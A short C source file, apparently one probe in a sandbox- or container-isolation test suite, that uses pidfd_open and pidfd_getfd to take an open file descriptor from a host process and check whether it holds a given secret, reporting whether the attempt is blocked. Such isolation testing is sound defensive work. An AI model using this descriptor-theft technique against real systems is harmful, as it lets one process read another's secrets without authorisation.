// Takes an open descriptor out of a process of the host with pidfd_getfd. argv: PID FD SECRET
#include "payload.h"

static void attack(int argc, char** argv) {
  int pid = atoi(need(argc, argv, 1));
  int number = atoi(need(argc, argv, 2));
  const char* secret = need(argc, argv, 3);
  int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
  if (pidfd < 0) blocked(errno);
  int fd = (int)syscall(SYS_pidfd_getfd, pidfd, number, 0);
  if (fd < 0) blocked(errno);
  lseek(fd, 0, SEEK_SET);
  if (fd_holds(fd, secret) == 1) succeeded("took the descriptor and read the secret");
  inconclusive("took a descriptor that holds something else");
}
